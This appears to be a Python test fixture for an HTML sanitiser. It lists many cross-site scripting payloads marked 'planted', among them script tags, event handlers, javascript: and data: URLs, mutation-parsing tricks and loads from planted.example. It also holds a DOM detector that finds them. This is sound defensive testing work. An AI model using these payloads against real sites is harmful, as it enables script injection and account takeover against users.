"""Words of strangers that would run a script, if a page took them for markup. Each is of our own making and says "planted".

Each stands where it bites: as markup, inside an attribute in double or single quotes, as an address, or inside a style.
"""

MARKUP = [
    # scripts
    "<script planted>alert('planted')</script>",
    "<ScRiPt planted>alert('planted')</sCrIpT>",
    "<script planted src=//planted.example/x.js></script>",
    "<script planted src=data:text/javascript,alert('planted')></script>",
    "<script planted type=module>alert('planted')</script>",
    "<script/planted>alert('planted')</script >",
    "<script\tplanted>alert('planted')</script>",
    "</title><script planted>alert('planted')</script>",
    "</textarea><script planted>alert('planted')</script>",
    "</script><script planted>alert('planted')</script>",
    "--><script planted>alert('planted')</script><!--",
    "]]><script planted>alert('planted')</script>",
    "<noscript><p title='</noscript><img planted src=x onerror=alert(1)>'>",
    # handlers
    "<img planted src=x onerror=alert('planted')>",
    "<img planted src=x oNeRrOr=alert`planted`>",
    "<img/planted/src=x/onerror=alert('planted')>",
    "<image planted src=x onerror=alert('planted')>",
    "<body planted onload=alert('planted')><p planted>",
    "<details planted open ontoggle=alert('planted')>",
    "<input planted autofocus onfocus=alert('planted')>",
    "<video planted src=x onerror=alert('planted')></video>",
    "<audio planted src=x onerror=alert('planted')>",
    "<video><source planted onerror=alert('planted')></video>",
    "<marquee planted onstart=alert('planted')>planted</marquee>",
    "<p planted onpointerenter=alert('planted')>planted",
    "<p planted style=animation-name:x onanimationstart=alert('planted')>",
    "<button planted popovertarget=x onclick=alert('planted')>planted</button>",
    "<div planted hx-get=/accounts/logout/ hx-trigger=load>planted</div>",
    "<div planted data-key=y hx-on:load=alert('planted')></div>",
    # links and forms
    "<a planted href=javascript:alert('planted')>planted</a>",
    "<a planted href='java&#x09;script:alert(1)'>planted</a>",
    "<a planted href=' &#1; JaVaScRiPt:alert(1)'>planted</a>",
    "<a planted href='&#106;avascript&colon;alert(1)'>planted</a>",
    "<area planted href=javascript:alert('planted')>",
    "<base planted href=//planted.example/>",
    "<form planted action=javascript:alert('planted')><button planted>planted",
    "<button planted formaction=javascript:alert('planted')>planted",
    "<meta planted http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<link planted rel=stylesheet href=//planted.example/x.css>",
    "<link planted rel=import href=data:text/html,planted>",
    # frames and objects
    "<iframe planted src=javascript:alert('planted')></iframe>",
    "<iframe planted srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<iframe planted src=data:text/html,planted></iframe>",
    "<object planted data=javascript:alert('planted')></object>",
    "<object planted data=data:image/svg+xml;base64,PHN2Zy8+></object>",
    "<embed planted src=data:text/html,planted>",
    "<portal planted src=//planted.example/></portal>",
    # SVG and MathML
    "<svg planted onload=alert('planted')>",
    "<svg><script planted>alert('planted')</script></svg>",
    "<svg><script planted href=data:,alert('planted') /></svg>",
    "<svg><animate planted onbegin=alert('planted') attributeName=x dur=1s>",
    "<svg><a planted xlink:href=javascript:alert('planted')><text planted>planted</text></a></svg>",
    "<svg><use planted href=data:image/svg+xml,planted></svg>",
    "<svg><foreignObject planted><img planted src=x onerror=alert(1)></foreignObject></svg>",
    "<svg><set planted attributeName=href to=javascript:alert('planted')></svg>",
    "<math planted><mi planted href=javascript:alert('planted')>planted</mi></math>",
    "<math><annotation-xml encoding=text/html><img planted src=x onerror=alert(1)></annotation-xml></math>",
    # what becomes something else when it is parsed a second time
    "<math><mtext><table><mglyph><style><!--</style><img planted title='--&gt;&lt;img planted src=x&gt;'>",
    "<svg></p><style><a planted title='</style><img planted src=x onerror=alert(1)>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img planted src=x onerror=alert(1)>",
    "<noembed><img planted title='</noembed><img planted src=x onerror=alert(1)>'>",
    "<xmp><p title='</xmp><img planted src=x onerror=alert(1)>'>",
    "<select><template><img planted src=x onerror=alert(1)></template></select>",
    "<table><td><img planted src=x onerror=alert(1)></table>",
    "<a planted<b planted>planted",
    "<!--planted--!><img planted src=x onerror=alert(1)>",
    "<![CDATA[<img planted src=x onerror=alert(1)>]]>",
    "<?planted <img planted src=x onerror=alert(1)>?>",
    "<%<img planted src=x onerror=alert(1)>%>",
    # what stands in templates, and elements of one's own
    "<template><img planted src=x onerror=alert('planted')></template>",
    "<template shadowrootmode=open><img planted src=x onerror=alert(1)></template>",
    "<div planted><template shadowrootmode=open><slot planted></slot></template></div>",
    "<planted-element>planted</planted-element>",
    # styles
    "<style planted>body{background:url(//planted.example/)}</style>",
    "<p planted style='background:url(javascript:alert(1))'>planted",
    "<style>@import '//planted.example/x.css';</style>",
    "<svg><style planted>*{color:red}</style></svg>",
    # other scripts' small beginnings
    "\ufeff<img planted src=x onerror=alert(1)>",
    "<\u200bimg src=x> <img planted src=x onerror=alert(1)>",
    "\u202e<img planted src=x onerror=alert(1)>\u202c",
    "{% load planted %}{{ planted|safe }}<img planted src=x>",
]
DOUBLE_QUOTED = [
    '" planted autofocus onfocus=alert(1) x="',
    '"><img planted src=x onerror=alert(1)>',
    '" planted style="animation-name:x" onanimationstart="alert(1)',
    '"/planted/onpointerover="alert(1)',
]
SINGLE_QUOTED = [
    "' planted autofocus onfocus=alert(1) x='",
    "'><svg planted onload=alert(1)>",
]
STYLED = [
    "x}</style><img planted src=x onerror=alert(1)>",
]
ADDRESSES = [
    "javascript:alert('planted')",
    "JaVaScRiPt:alert('planted')",
    "java\tscript:alert('planted')",
    "\x01javascript:alert('planted')",
    "javascript://planted.example/%0aalert(1)",
    "data:text/html,<script>alert('planted')</script>",
    "data:text/html;base64,cGxhbnRlZA==,planted",
    "vbscript:msgbox('planted')",
    "blob:https://planted.example/planted",
    "view-source:javascript:alert('planted')",
]
EVERY = [*MARKUP, *DOUBLE_QUOTED, *SINGLE_QUOTED, *STYLED, *ADDRESSES]

# How each kind bites: where a careless page would put it.
CARELESS = (
    [(words, words) for words in MARKUP]
    + [(words, f'<input value="{words}">') for words in DOUBLE_QUOTED]
    + [(words, f"<input value='{words}'>") for words in SINGLE_QUOTED]
    + [(words, f"<style>{words}</style>") for words in STYLED]
    + [(words, f'<a href="{words}">x</a>') for words in ADDRESSES if "<" not in words]
)

# What a page made of strangers' words: elements, attributes, addresses, styles, comments, whatever says "planted".
WATCH = r"""
root => {
  const found = [], links = ['href', 'src', 'action', 'formaction', 'data', 'srcdoc', 'content', 'poster', 'xlink:href', 'to'];
  const look = node => {
    const comments = document.createTreeWalker(node, NodeFilter.SHOW_COMMENT | NodeFilter.SHOW_PROCESSING_INSTRUCTION);
    while (comments.nextNode()) if (comments.currentNode.data.includes('planted')) found.push('comment');
    for (const one of node.querySelectorAll('*')) {
      if (one.localName.includes('planted')) found.push(one.localName);
      for (const {name, value} of one.attributes) {
        if (name.includes('planted')) found.push(`${one.localName} ${name}`);
        else if (/^on|^style$|^srcdoc$/.test(name) && value.includes('planted')) found.push(`${one.localName} ${name}`);
        else if (links.includes(name) && value.includes('planted')) {
          let scheme = 'none:';
          try { scheme = new URL(value, 'https://desk.example/').protocol } catch {}
          if (!/^https?:$/.test(scheme)) found.push(`${one.localName} ${name}=${scheme}`);
        }
      }
      const runs = one.localName === 'style' || (one.localName === 'script' && one.type !== 'application/ld+json');
      if (runs && one.textContent.includes('planted')) found.push(one.localName);
      if (one.localName === 'template') look(one.content);
      if (one.shadowRoot) look(one.shadowRoot);
    }
  };
  look(root);
  return found;
}
"""
